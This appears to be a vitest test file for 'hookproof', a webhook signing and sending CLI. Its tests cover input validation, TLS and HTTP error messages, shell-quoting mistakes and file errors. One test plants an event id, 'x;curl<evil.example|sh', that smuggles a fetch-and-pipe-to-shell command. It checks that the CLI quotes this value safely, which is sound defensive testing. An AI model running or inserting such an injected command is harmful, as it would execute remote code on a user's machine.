// Texts that others gave are no more than texts: in a command to paste, as a name for plain HTTP, beside another key.
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable, Writable } from "node:stream";
import { generateKey } from "hookproof/jwks";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { temporaryFolder } from "../../test/kit/temporary-folder.js";
import { removalOf } from "../src/files/written-file.js";
import { run } from "../src/main.js";
import { connectionHint } from "../src/send/connection-hint.js";

let folder: string;
const path = (name: string) => join(folder, name);
const LISTENER = "https://tenant.example.com/api/v1/webhooks/incoming/lst_1";

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "hookproof-given-"));
  mkdirSync(path("data"), { mode: 0o700 });
  writeFileSync(path("secret.txt"), "a-secret-of-more-than-thirty-two-characters", { mode: 0o600 });
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function outcome(
  argv: readonly string[],
  env: Record<string, string> = {},
  input: readonly string[] = [],
): Promise<[number, string]> {
  const written: string[] = [];
  const sink = () =>
    new Writable({
      write(chunk, _encoding, done) {
        written.push(String(chunk));
        done();
      },
    });
  const exit = await run(argv, {
    stdin: Readable.from(input.map((text) => Buffer.from(text))),
    stdout: sink(),
    stderr: sink(),
    env: { HOOKPROOF_HOME: path("data"), NO_COLOR: "1", ...env },
    stopSignal: new AbortController().signal,
  });
  return [exit, written.join("")];
}

it.each<[readonly string[], Record<string, string>, string]>([
  [["--data", '{"a":"caf\uFFFD"}'], {}, "--data has bytes that are not UTF-8"],
  [["--data", "{}", "--set", "a=caf\uFFFD"], {}, "--set has bytes that are not UTF-8"],
  [["--data", "{}"], { HTTPS_PROXY: "http://[bad" }, ""],
])("%j: bytes that Node could not read are not sent as U+FFFD", async (flags, env, said) => {
  const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", ...flags];
  const [code, shown] = await outcome(argv, env);
  expect([code, shown]).toEqual([said === "" ? 0 : 3, expect.stringContaining(said)]);
});

it.each([15, 20, 24, 64, 65])(
  "sign says of a secret of Standard Webhooks with %i bytes what send says",
  async (bytes) => {
    const file = join(temporaryFolder("given-texts"), "secret.txt");
    writeFileSync(file, `whsec_${Buffer.alloc(bytes, 7).toString("base64")}`, { mode: 0o600 });
    const flags = [LISTENER, "--scheme", "standard-webhooks", "--secret-file", file, "--data", "{}"];
    const refused = bytes < 16 ? "too few to be a secret" : "";
    const warned =
      bytes < 24 || bytes > 64 ? `The secret has ${bytes} bytes; Standard Webhooks wants 24 to 64.` : "";
    for (const argv of [
      ["sign", ...flags],
      ["send", ...flags, "--dry-run"],
    ]) {
      const [exit, said] = await outcome(argv);
      expect(exit === 0).toBe(refused === "");
      expect(said).toContain(refused || warned);
      expect(said.includes("wants 24 to 64")).toBe(refused === "" && warned !== "");
    }
  },
);

it("a failed handshake of TLS is told by OpenSSL's own words, however deep they lie", () => {
  const hint = (words: string) => {
    const cause = new Error("TLS failed", { cause: new Error(`write EPROTO ${words}`) });
    return connectionHint("TLS_FAILED", "TLS failed: localhost:4713 (EPROTO).", cause);
  };
  expect(hint("sslv3 alert handshake failure")).toContain("--cert <file>");
  expect(hint("tlsv1 alert protocol version")).toContain("older version of TLS");
  expect(hint("wrong version number")).toContain("use http://");
});

it.each([
  ["HTTP/1.1 200 OK\nContent-Length: 0\n\n", "end with a line feed alone"],
  ["HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\n{}", "Content-Length stands twice"],
  ["HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n", "is no number"],
  ["HTTP/1.1 200 OK\r\nX-A: a\r\n b\r\n\r\n", "goes on in the next line"],
  [`HTTP/1.1 200 OK\r\nX-A: ${"a".repeat(20_000)}\r\n\r\n`, "more than 16 KiB"],
  ["SSH-2.0-OpenSSH_9.2\r\n", "Something else than HTTP/1.1 may answer there"],
])("a header section that cannot be read is told from what is no HTTP: %j", async (answer, words) => {
  const server = createServer((socket) =>
    socket.on("error", () => {}).once("data", () => socket.end(answer)),
  );
  await once(server.listen(0, "127.0.0.1"), "listening");
  onTestFinished(() => void server.close());
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/v1/webhooks/incoming/x`;
  const argv = ["send", url, "--secret-file", path("secret.txt"), "--data", "{}", "--retries", "0"];
  const [exit, shown] = await outcome(argv);
  expect([exit, shown]).toEqual([6, expect.stringContaining("RESPONSE_INVALID")]);
  expect(shown.replaceAll(/\s+/g, " ")).toContain(words);
});

it("an event's id of its own form is one word in the command to paste", async () => {
  const record = {
    ...{ v: 1, type: "event", at: Date.now(), eventId: "x;curl<evil.example|sh", url: LISTENER },
    ...{ method: "hmac", headers: {}, bodyBase64: "e30=", outcome: "accepted" },
    credential: { kind: "profile", profile: "a" },
  };
  writeFileSync(path("data/history.jsonl"), `${JSON.stringify(record)}\n`, { mode: 0o600 });
  const [, shown] = await outcome(["events", "list"]);
  expect(shown).toContain("next: hookproof events show 'x;curl<evil.example|sh'");
});

describe("a name for plain HTTP that is one of the Internet is refused", () => {
  const signing = ["--data", "{}", "--secret-file"];
  it.each<[string, (flag: readonly string[]) => readonly string[]]>([
    ["sign", (flag) => ["sign", LISTENER, ...signing, path("secret.txt"), ...flag]],
    ["send", (flag) => ["send", LISTENER, ...signing, path("secret.txt"), "--dry-run", ...flag]],
    ["test", (flag) => ["test", LISTENER, "--secret-file", path("secret.txt"), ...flag]],
  ])("by %s", async (_, argv) => {
    const refused = [2, expect.stringContaining('--plain-http cannot be "example.com"')];
    expect(await outcome(argv(["--plain-http", "example.com"]))).toEqual(refused);
    expect(await outcome(argv([]), { HOOKPROOF_PLAIN_HTTP: "example.com" })).toEqual(refused);
  });

  it("by profile add, which writes nothing", async () => {
    const file = path("plain.config.json");
    const argv = ["profile", "add", "x", "--plain-http", "example.com", "--config", file];
    expect(await outcome(argv)).toEqual([2, expect.stringContaining("--plain-http cannot be")]);
    expect(await outcome(["profile", "add", "x", "--plain-http", "app", "--config", file])).toEqual([
      0,
      expect.stringContaining("plain.config.json"),
    ]);
  });
});

it("a profile's kid is put on the same file's key alone", async () => {
  const keyFile = async (name: string) => {
    const { privateJwk } = await generateKey({ alg: "ES256", kid: name });
    writeFileSync(path(`${name}.json`), JSON.stringify({ ...privateJwk, kid: name, alg: "ES256" }), {
      mode: 0o600,
    });
    return path(`${name}.json`);
  };
  const [own, other] = [await keyFile("own"), await keyFile("other")];
  writeFileSync(
    path("kid.config.json"),
    JSON.stringify({ profile: "a", profiles: { a: { method: "jwt", key: own, kid: "named" } } }),
  );
  const signed = async (env: Record<string, string>) => {
    const argv = ["sign", LISTENER, "--data", "{}", "--json", "--config", path("kid.config.json")];
    const [exit, shown] = await outcome(argv, env);
    expect([exit, shown]).toEqual([0, expect.stringContaining("Bearer ")]);
    const [, head = ""] = /Bearer ([^.]+)/.exec(shown) ?? [];
    return JSON.parse(Buffer.from(head, "base64url").toString()).kid;
  };
  expect(await signed({})).toBe("named");
  expect(await signed({ HOOKPROOF_KEY: other })).toBe("other");
});

it("a file of another's, under the number of one that is gone, stays", () => {
  const [file, kept] = [path("made"), path("kept")];
  writeFileSync(file, "made");
  removalOf(file)();
  expect(() => utimesSync(file, 1, 1)).toThrow("ENOENT");
  writeFileSync(kept, "made");
  const remove = removalOf(kept);
  utimesSync(kept, 1, 1);
  remove();
  expect(() => utimesSync(kept, 1, 1)).not.toThrow();
});

it("an address of a service that is no URL is no file's name", async () => {
  expect(await outcome(["service", "export", "--base-url", "localhost:4420"])).toEqual([
    2,
    expect.stringContaining('--base-url must be an http or https URL, not "localhost:4420"'),
  ]);
});

it("a base URL that nothing looks at is refused: a secret signs no claim sub", async () => {
  const refused = [2, expect.stringContaining("--base-url is for --method jwt without --scheme")];
  const flags = ["--secret-file", path("secret.txt"), "--base-url", "https://tenant.example.com"];
  for (const argv of [
    ["sign", "--data", "{}"],
    ["send", LISTENER, "--data", "{}", "--dry-run"],
    ["send", LISTENER, "--data", "{}", "--dry-run", "--scheme", "standard-webhooks"],
    ["test", LISTENER],
  ])
    expect(await outcome([...argv, ...flags])).toEqual(refused);
});

describe("data whose quotes a shell has changed", () => {
  it.each([
    "{type:user.offboarded,userId:u_1}",
    "'{a:1}'",
    '{\\"a\\":1}',
    "'{\"a\":1}'",
    "[a,b]",
    "{ a : 1}",
  ])("is named: %s", async (data) => {
    const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--data", data];
    expect(await outcome(argv)).toEqual([
      2,
      expect.stringMatching(/PAYLOAD_NOT_JSON.*Your shell has changed the quotes/s),
    ]);
  });
  it.each(["{\u201ca\u201d:1}", "{\u2018a\u2019:1}", "{\u201ea\u201c:1}"])(
    "or a text program: %s",
    async (data) => {
      const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--data", data];
      expect(await outcome(argv)).toEqual([2, expect.stringMatching(/PAYLOAD_NOT_JSON.*straight quotes/s)]);
    },
  );
  it.each(["'a=1'", 'a={\\"b\\":1}', "user={id:1}", "a=[{id:1}]"])("also of --set: %s", async (set) => {
    const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--set", set];
    expect(await outcome(argv)).toEqual([2, expect.stringMatching(/USAGE.*wrong quotes.*Your shell/s)]);
  });
  it.each(["a='1'", "a=it's", "a=[draft]", "a=[12:30]", "a={}", "a=(b:1)", 'a={"b":1}'])(
    "what --set may mean is taken: %s",
    async (set) => {
      const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--set", set];
      expect((await outcome(argv))[0]).toBe(0);
    },
  );
  it("and a --header that cmd.exe leaves in single quotes", async () => {
    const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--data", "{}"];
    expect(await outcome([...argv, "--header", "'X-Key:abc'"])).toEqual([
      2,
      expect.stringMatching(/HEADER_INVALID.*stands in single quotes/s),
    ]);
  });
  it("lines of a batch that are no JSON speak of lines, and not of a program", async () => {
    const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--batch", "--data", '{\n"a":1\n}'];
    const [exit, said] = await outcome(argv);
    expect([exit, said]).toEqual([
      2,
      expect.stringContaining("line 1: This is not JSON: each line is one whole event"),
    ]);
    expect(said).not.toContain("JSON.stringify");
  });
  it.each(['{"a":1', "text", '{"a" 1}', "[1,]", "'"])("is not suspected: %s", async (data) => {
    const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", "--data", data];
    expect(await outcome(argv)).toEqual([2, expect.not.stringContaining("Your shell")]);
  });
});

describe("what is no such file is named with its option, and not taken", () => {
  const send = ["send", LISTENER.replace("tenant.example.com", "127.0.0.1:9"), "--secret-file"];
  it.each<[string, (secret: string, folder: string) => readonly string[], RegExp]>([
    [
      "a folder of events",
      (secret, at) => [...send, secret, "--batch", "-d", `@${at}`],
      /FILE_UNREADABLE.*it is a folder/,
    ],
    [
      "a secret as an authority",
      (secret) => [...send, secret, "-d", "{}", "--ca", secret],
      /CERTIFICATE_INVALID.*--ca: .* is no certificate in PEM/,
    ],
    [
      "a folder as a history",
      (_, at) => ["listen", "--port", "0", "--no-ui", "--history", at],
      /HISTORY_UNREADABLE.*cannot be used: it is a folder\./,
    ],
    [
      "a circle of links",
      (secret, at) => [...send, secret, "-d", `@${join(at, "circle")}`],
      /FILE_UNREADABLE.*--data: .*its links lead in a circle/,
    ],
    [
      "a name that is too long",
      (secret) => [...send, secret, "-d", `@${"n".repeat(300)}`],
      /FILE_UNREADABLE.*--data: .*its name is too long/,
    ],
    [
      "a socket as a service's database",
      (_, at) => ["service", "routes", "--db", join(at, "socket")],
      /DATABASE_UNUSABLE/,
    ],
  ])("%s", async (_name, argv, said) => {
    const at = temporaryFolder("cli-no-file");
    symlinkSync("circle", join(at, "circle"));
    const server = createServer().listen(join(at, "socket"));
    await once(server, "listening");
    onTestFinished(() => void server.close());
    const [exit, shown] = await outcome(argv(path("secret.txt"), at));
    expect([exit, shown]).toEqual([3, expect.stringMatching(new RegExp(said, "s"))]);
  });
});

it("a batch names the line that never ends", async () => {
  const long = path("long");
  writeFileSync(long, `{"a":1}\r\n\n"${"é".repeat(4 * 1024 * 1024)}`);
  const argv = [
    "send",
    LISTENER.replace("https://tenant.example.com", "http://127.0.0.1:9"),
    "--secret-file",
    path("secret.txt"),
    "--batch",
    "--retries",
    "0",
    "-d",
    `@${long}`,
  ];
  expect(await outcome(argv)).toEqual([
    2,
    expect.stringMatching(/USAGE.*Line 3 of .*long has more than 4 MiB/s),
  ]);
});

it("a line of a batch is sent without its end, whichever it has and wherever a chunk ends", async () => {
  const bodies: string[] = [];
  const server = createHttpServer((request, response) => {
    let body = "";
    request.setEncoding("utf8").on("data", (text) => {
      body += text;
    });
    request.on("end", () => {
      bodies.push(body);
      response.end("{}");
    });
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/v1/webhooks/incoming/lst_1`;
  const argv = [
    "send",
    url,
    "--secret-file",
    path("secret.txt"),
    "--batch",
    "--concurrency",
    "1",
    "--data",
    "-",
  ];
  const input = ['{"a":1}\r\n{"a":2}\r', '\n{"a":3}\r{"a"', ':4}\n\r\n{"a":5}\r'];
  expect((await outcome(argv, {}, input))[0]).toBe(0);
  expect(bodies).toEqual([1, 2, 3, 4, 5].map((a) => JSON.stringify({ a })));
});

describe("a TLS connection that fails says why", () => {
  const message = "TLS failed: localhost:4400 (EPROTO).";
  it.each([
    ["tlsv1 alert protocol version", /an older version of TLS/],
    ["SSL routines::unsupported protocol", /an older version of TLS/],
    ["SSL routines::wrong version number", /does not answer with TLS/],
  ])("%s", (words, hint) => {
    expect(connectionHint("TLS_FAILED", message, new Error(words))).toMatch(hint);
  });
});
